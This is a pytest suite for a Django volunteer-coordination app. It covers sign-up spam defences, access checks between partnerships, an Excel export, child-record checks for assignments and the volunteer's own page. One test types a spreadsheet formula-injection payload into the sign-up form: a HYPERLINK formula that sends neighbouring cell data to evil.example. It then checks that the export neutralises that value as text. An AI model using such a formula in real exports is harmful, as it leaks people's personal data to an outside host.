"""The screens through the HTTP client: sign-up defences, refusals, assignment checks, the volunteer's page."""
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from brobyg.audit.models import AuditEntry
from brobyg.core.models import PublicFormCount
from brobyg.core.publicforms import stamp
from brobyg.partnerships.models import Role
from brobyg.volunteers import services
from brobyg.volunteers.models import (
    Ask, OnboardingItem, OnboardingRecord, Status, SupportNote, Task, TaskAssignment, VisitLog,
    VolunteerProfile,
)

pytestmark = pytest.mark.django_db


def _signup_data(**kw):
    started = stamp("signup", seconds_ago=30)
    data = {"first_name": "Maja", "last_name": "Lind", "email": "maja@example.org", "phone": "20202020",
            "postcode": "8000", "travel_radius_km": "5", "wants_companion": "on", "interests": "gåture",
            "languages": "dansk", "commitment": "small", "channel": "saw_it", "slots": ["1-afternoon", "3-evening"],
            "consent": "on", "website": "", "started": started}
    data.update(kw)
    return data


def test_public_signup_stores_consent_slots_and_sends_confirmation(client, partnership_a):
    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, _signup_data())
    assert response.status_code == 302
    profile = VolunteerProfile.objects.get(email="maja@example.org")
    assert profile.partnership == partnership_a and profile.consent_given and profile.consent_at
    assert profile.slots == [(1, "afternoon"), (3, "evening")]
    assert profile.source == "public_form" and profile.user is None
    assert len(mail.outbox) == 1 and "maja@example.org" in mail.outbox[0].to
    link = [w for w in mail.outbox[0].body.split() if "/volunteers/confirm/" in w][0]
    assert client.get(link[link.index("/volunteers"):]).status_code == 200
    profile.refresh_from_db()
    assert profile.email_confirmed_at is not None
    assert AuditEntry.objects.filter(action="volunteer.signup", object_id=str(profile.pk)).exists()
    assert "Maja" not in "".join(AuditEntry.objects.values_list("detail", flat=True))


def test_signup_without_consent_or_role_stores_nothing(client, partnership_a):
    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
    response = client.post(url, _signup_data(consent=""))
    assert response.status_code == 200 and "samtykke" in response.content.decode().lower()
    response = client.post(url, _signup_data(wants_companion=""))
    assert response.status_code == 200
    response = client.post(url, _signup_data(postcode="80"))
    assert "fire cifre" in response.content.decode()
    assert not VolunteerProfile.objects.exists()


def test_honeypot_and_too_fast_and_rate_limit(client, partnership_a):
    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
    assert client.post(url, _signup_data(website="http://spam")).status_code == 302
    assert not VolunteerProfile.objects.exists()
    response = client.post(url, _signup_data(started=stamp("signup")))
    assert response.status_code == 200 and not VolunteerProfile.objects.exists()
    assert "hurtigt" in response.content.decode() and 'value="Maja"' in response.content.decode()
    forged = client.post(url, _signup_data(started="123"))
    assert forged.status_code == 200 and not VolunteerProfile.objects.exists()
    for i in range(5):
        assert client.post(url, _signup_data(email=f"x{i}@example.org")).status_code == 302
    response = client.post(url, _signup_data(email="y@example.org"))
    assert response.status_code == 429 and 'value="y@example.org"' in response.content.decode()
    assert VolunteerProfile.objects.count() == 5 and PublicFormCount.objects.get(scope="signup").count == 6


def test_other_partnership_gets_404_wrong_role_403(client_for, make_volunteer, make_task, facilitator_b, make_user,
                                                   partnership_a, org_a):
    volunteer = make_volunteer()
    task = make_task()
    other = client_for(facilitator_b)
    for name, arg in [("volunteers:detail", volunteer.pk), ("volunteers:edit", volunteer.pk),
                      ("volunteers:task_detail", task.pk)]:
        assert other.get(reverse(name, args=[arg])).status_code == 404
    assert other.post(reverse("volunteers:task_assign", args=[task.pk]), {"profile": volunteer.pk}).status_code == 404
    assert volunteer.name not in other.get(reverse("volunteers:list")).content.decode()
    referrer = client_for(make_user(Role.REFERRER, partnership_a, org_a))
    assert referrer.get(reverse("volunteers:detail", args=[volunteer.pk])).status_code == 403
    assert referrer.get(reverse("volunteers:list")).status_code == 403
    assert not TaskAssignment.objects.exists()


def test_list_filters_and_excel_export(client_for, facilitator_a, make_volunteer):
    make_volunteer(first_name="Aisha", languages="dansk, somali", slots=[(2, "morning")])
    make_volunteer(first_name="Bent", languages="dansk", status=Status.RESTING, wants_companion=False)
    c = client_for(facilitator_a)
    body = c.post(reverse("volunteers:list"), {"language": "somali"}, follow=True).content.decode()
    assert "Aisha" in body and "Bent" not in body
    body = c.post(reverse("volunteers:list"), {"slot": "2-morning", "role": "companion"}, follow=True)
    assert "Aisha" in body.content.decode() and "Bent" not in body.content.decode()
    c.post(reverse("volunteers:list"), {"status": "resting"})  # the export follows the list's filters
    response = c.get(reverse("volunteers:export"))
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(response.content))
    rows = list(wb.active.values)
    assert len(rows) == 2 and rows[1][0] == "Bent"
    assert AuditEntry.objects.filter(action="volunteer.export").exists()


def test_a_formula_typed_into_the_signup_reaches_the_export_as_text(client, client_for, facilitator_a,
                                                                   partnership_a):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&C2&D2,"Klik")'
    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
    response = client.post(url, _signup_data(first_name=formula, last_name="@SUM(1+1)", phone="+4520202020"))
    assert response.status_code == 302
    export = client_for(facilitator_a).get(reverse("volunteers:export"))
    sheet = load_workbook(io.BytesIO(export.content)).active
    first, last, phone = sheet["A2"], sheet["B2"], sheet["D2"]
    assert first.data_type == "s" and first.value == formula and first.quotePrefix
    assert last.data_type == "s" and last.value == "@SUM(1+1)" and last.quotePrefix
    assert phone.value == "+4520202020" and phone.data_type == "s"
    assert sheet["A1"].data_type == "s" and not sheet["A1"].quotePrefix  # ordinary text is left alone


def test_onboard_then_assign_refusal_explains_missing_child_record(client_for, facilitator_a, make_volunteer,
                                                                  make_task, partnership_a):
    checklist = {i.kind: i for i in services.ensure_checklist(partnership_a)}
    volunteer = make_volunteer(first_name="Ulla")
    task = make_task(title="Lektiehjælp", involves_children=True)
    c = client_for(facilitator_a)
    today = timezone.localdate().isoformat()
    for kind in ("intro", "confidentiality"):
        r = c.post(reverse("volunteers:onboarding_add", args=[volunteer.pk]),
                   {"item": checklist[kind].pk, "completed_on": today})
        assert r.status_code == 302
    assert OnboardingRecord.objects.filter(profile=volunteer).count() == 2
    response = c.post(reverse("volunteers:task_assign", args=[task.pk]), {"profile": volunteer.pk}, follow=True)
    body = response.content.decode()
    assert "Børneattest mangler" in body
    assert not TaskAssignment.objects.exists()
    r = c.post(reverse("volunteers:onboarding_add", args=[volunteer.pk]),
               {"item": checklist["child_record"].pk, "completed_on": today})
    record = OnboardingRecord.objects.get(item=checklist["child_record"])
    assert record.expires_on > timezone.localdate() + timedelta(days=700)  # filled from 24 months validity
    c.post(reverse("volunteers:task_assign", args=[task.pk]), {"profile": volunteer.pk})
    assert TaskAssignment.objects.filter(profile=volunteer, task=task, active=True).exists()


def test_suggestions_ask_and_answer_are_kept(client_for, facilitator_a, make_volunteer, make_task, partnership_a):
    services.ensure_checklist(partnership_a)
    OnboardingItem.objects.filter(partnership=partnership_a).update(required_for_all=False)
    volunteer = make_volunteer(first_name="Kaj", interests="kaffe", slots=[(2, "afternoon")])
    task = make_task()
    c = client_for(facilitator_a)
    body = c.get(reverse("volunteers:task_detail", args=[task.pk])).content.decode()
    assert "Kaj" in body and "kaffe" in body
    c.post(reverse("volunteers:task_ask", args=[task.pk]), {"profile": volunteer.pk})
    ask = Ask.objects.get()
    assert ask.answer == "pending" and ask.score > 0 and "kaffe" in ask.reasons
    c.post(reverse("volunteers:ask_answer", args=[ask.pk]), {"answer": "yes", "note": "glæder sig"})
    ask.refresh_from_db()
    assert ask.answer == "yes" and ask.answered_at
    assert TaskAssignment.objects.filter(profile=volunteer, task=task).exists()
    body = c.get(reverse("volunteers:detail", args=[volunteer.pk])).content.decode()
    assert "Vært i caféen" in body


def test_follow_up_due_list_and_risk(client_for, facilitator_a, make_volunteer, make_task, partnership_a):
    services.ensure_checklist(partnership_a)
    OnboardingItem.objects.filter(partnership=partnership_a).update(required_for_all=False)
    old = make_volunteer(first_name="Glemt", last_follow_up=timezone.localdate() - timedelta(weeks=20))
    make_volunteer(first_name="Frisk", last_follow_up=timezone.localdate())
    c = client_for(facilitator_a)
    body = c.get(reverse("volunteers:due")).content.decode()
    assert "Glemt" in body and "Frisk" not in body
    c.post(reverse("volunteers:support_add", args=[old.pk]),
           {"date": timezone.localdate().isoformat(), "kind": "follow_up", "note": "god snak"})
    assert SupportNote.objects.filter(profile=old).exists()
    assert "Glemt" not in c.get(reverse("volunteers:due")).content.decode()
    task = make_task(title="Eneste vært", volunteers_needed=2)
    services.assign_task(old, task)
    body = c.get(reverse("volunteers:risk")).content.decode()
    assert "Eneste vært" in body and "Glemt" in body


def test_status_stop_needs_a_reason(client_for, facilitator_a, make_volunteer):
    volunteer = make_volunteer()
    c = client_for(facilitator_a)
    c.post(reverse("volunteers:status", args=[volunteer.pk]), {"status": "stopped"})
    volunteer.refresh_from_db()
    assert volunteer.status == "active"
    c.post(reverse("volunteers:status", args=[volunteer.pk]), {"status": "stopped", "reason": "moved"})
    volunteer.refresh_from_db()
    assert volunteer.status == "stopped" and volunteer.status_reason == "moved"


def test_channel_statistics_suppress_small_counts(client_for, facilitator_a, make_volunteer):
    for _i in range(6):
        make_volunteer(channel="personal")
        make_volunteer(channel="volunteer")
    make_volunteer(channel="posting")
    body = client_for(facilitator_a).get(reverse("volunteers:channels")).content.decode()
    assert "<svg" in body and "skjult" in body
    # The one "posting" volunteer is hidden, and so is one of the channels of six: all 13 volunteers are known from
    # the dashboard, so 13 − 6 − 6 would give the one back (core.stats, complementary cells).
    table = body.split("<tbody>")[1]
    assert table.count("<td>6</td><td>6</td><td>0</td>") == 1 and "<td>1</td>" not in table


def test_self_assessment_keeps_answers_over_time(client_for, facilitator_a, partnership_a):
    c = client_for(facilitator_a)
    r = c.post(reverse("volunteers:assessments"), {"initiative": "Cafégruppen", "date": "2026-01-10"})
    first = r["Location"]
    body = c.get(first).content.decode()
    assert body.count('type="radio"') == 26 * 4
    c.post(first, {"purpose-status": "in_place", "purpose-answer": "Mindre ensomhed"})
    r = c.post(reverse("volunteers:assessments"), {"initiative": "Cafégruppen", "date": "2026-06-10"})
    body = c.get(r["Location"]).content.decode()
    assert "Mindre ensomhed" in body and "Sidste gang" in body
    bad = c.post(r["Location"], {"purpose-status": "bogus"})
    assert bad.status_code == 200


def test_volunteers_own_page_calendar_pause_availability_and_visit(client_for, make_user, partnership_a, org_a,
                                                                   make_volunteer, make_task):
    services.ensure_checklist(partnership_a)
    OnboardingItem.objects.filter(partnership=partnership_a).update(required_for_all=False)
    user = make_user(Role.VOLUNTEER, partnership_a, org_a)
    profile = make_volunteer(user=user, first_name="Hanne")
    stranger = make_volunteer(first_name="Fremmed")
    task = make_task(title="Caféhjælp", meeting_place="Beboerhuset, indgang fra gården")
    services.assign_task(profile, task)
    c = client_for(user)
    body = c.get(reverse("volunteers:me")).content.decode()
    assert "Caféhjælp" in body and "Beboerhuset" in body and "Fremmed" not in body
    ics = c.get(reverse("volunteers:me_calendar"))
    assert ics["Content-Type"].startswith("text/calendar") and b"Caf" in ics.content and b"RRULE" not in ics.content
    assert ics.content.count(b"BEGIN:VEVENT") >= 4
    c.post(reverse("volunteers:me_availability"), {f"p{profile.pk}-slots": ["0-morning"]})
    profile.refresh_from_db()
    assert profile.slots == [(0, "morning")]
    c.post(reverse("volunteers:me_visit"), {"ref": f"task:{task.pk}", "date": timezone.localdate().isoformat()})
    assert VisitLog.objects.filter(profile=profile).count() == 1
    c.post(reverse("volunteers:me_visit"), {"ref": "task:999999", "date": timezone.localdate().isoformat()})
    assert VisitLog.objects.count() == 1
    c.post(reverse("volunteers:me_pause"), {f"p{profile.pk}-note": "eksamen"})
    profile.refresh_from_db()
    assert profile.status == Status.RESTING and profile.status_changes.get().by_volunteer
    # someone else's profile cannot be paused through the form
    c.post(reverse("volunteers:me_pause"), {"profile": stranger.pk})
    stranger.refresh_from_db()
    assert stranger.status == Status.ACTIVE


def test_accepting_a_volunteer_invitation_links_the_profile(make_user, make_volunteer, partnership_a):
    profile = make_volunteer(email="link@example.org")
    from brobyg.partnerships.models import Membership

    user = make_user(email="LINK@example.org")
    Membership.objects.create(user=user, partnership=partnership_a, role=Role.VOLUNTEER)
    profile.refresh_from_db()
    assert profile.user == user


def test_task_form_validates(client_for, facilitator_a):
    c = client_for(facilitator_a)
    r = c.post(reverse("volunteers:task_create"), {"title": "X", "kind": "activity", "commitment": "small",
                                                   "volunteers_needed": "2", "status": "open",
                                                   "start_time": "15:00", "end_time": "14:00"})
    assert r.status_code == 200 and not Task.objects.exists()


def test_expired_boerneattest_refusal_is_shown_on_the_task_page(client_for, facilitator_a, make_volunteer,
                                                                make_task, partnership_a):
    checklist = {i.kind: i for i in services.ensure_checklist(partnership_a)}
    volunteer = make_volunteer(first_name="Ejnar")
    today = timezone.localdate()
    for kind in ("intro", "confidentiality"):
        OnboardingRecord.objects.create(profile=volunteer, item=checklist[kind], completed_on=today)
    OnboardingRecord.objects.create(profile=volunteer, item=checklist["child_record"],
                                    completed_on=today - timedelta(days=800), expires_on=today - timedelta(days=3))
    task = make_task(title="Fodbold for børn", involves_children=True)
    c = client_for(facilitator_a)
    response = c.post(reverse("volunteers:task_assign", args=[task.pk]), {"profile": volunteer.pk}, follow=True)
    body = response.content.decode()
    assert 'id="refusal"' in body and "Ejnar" in body
    assert f"Børneattest udløb den {(today - timedelta(days=3)).strftime('%d.%m.%Y')}" in body
    assert not TaskAssignment.objects.exists()
    # the suggestion list explains it too, and a "yes" answer to a request is refused the same way
    assert "udløb" in c.get(reverse("volunteers:task_detail", args=[task.pk])).content.decode()
    c.post(reverse("volunteers:task_ask", args=[task.pk]), {"profile": volunteer.pk})
    ask = volunteer.asks.get()
    body = c.post(reverse("volunteers:ask_answer", args=[ask.pk]), {"answer": "yes"}, follow=True).content.decode()
    assert "udløb" in body and not TaskAssignment.objects.exists()


def test_list_search_by_name_email_or_phone(client_for, facilitator_a, make_volunteer):
    make_volunteer(first_name="Ida", last_name="Hansen", email="ida@example.org", phone="+45 20 30 40 50")
    make_volunteer(first_name="Bo", last_name="Holm", email="bo@example.org", phone="")
    c = client_for(facilitator_a)
    for q, expected in [("ida han", "Ida Hansen"), ("bo@example", "Bo Holm"), ("30 40", "Ida Hansen"),
                        ("holm", "Bo Holm")]:
        body = c.post(reverse("volunteers:list"), {"q": q}, follow=True).content.decode()
        assert expected in body, q
    assert "Ida Hansen" not in c.post(reverse("volunteers:list"), {"q": "bo@example"}, follow=True).content.decode()


def test_recognition_is_recorded_and_a_volunteer_carrying_too_much_shows_on_the_risk_page(
        client_for, facilitator_a, make_volunteer, make_task, partnership_a):
    """Issue 5 (004 Del 4–5): recognition (thank-you, courses, events) is recorded on the profile, refused without
    a kind; the person-dependency view lists volunteers at or over their own limit, not those with room."""
    from brobyg.volunteers.models import Recognition

    services.ensure_checklist(partnership_a)
    OnboardingItem.objects.filter(partnership=partnership_a).update(required_for_all=False)
    busy = make_volunteer(first_name="Travl", max_tasks=2)
    calm = make_volunteer(first_name="Rolig", max_tasks=3)
    c = client_for(facilitator_a)
    url = reverse("volunteers:recognition_add", args=[busy.pk])
    assert c.post(url, {"date": timezone.localdate().isoformat(), "kind": "nonsense"}).status_code == 302
    assert not Recognition.objects.exists()
    c.post(url, {"date": timezone.localdate().isoformat(), "kind": "course", "note": "Kursus i førstehjælp"})
    rec = Recognition.objects.get(profile=busy)
    assert rec.kind == "course" and rec.by == facilitator_a
    assert "Kursus i førstehjælp" in c.get(reverse("volunteers:detail", args=[busy.pk])).content.decode()
    assert AuditEntry.objects.filter(action="volunteer.recognition", object_id=str(busy.pk)).exists()

    for title in ("Opgave A", "Opgave B"):
        services.assign_task(busy, make_task(title=title, volunteers_needed=3))
    services.assign_task(calm, make_task(title="Opgave C", volunteers_needed=3))
    body = c.get(reverse("volunteers:risk")).content.decode()
    assert "Travl" in body
    from brobyg.volunteers.services import overloaded_volunteers

    names = [row["profile"].first_name for row in overloaded_volunteers(partnership_a)]
    assert names == ["Travl"]
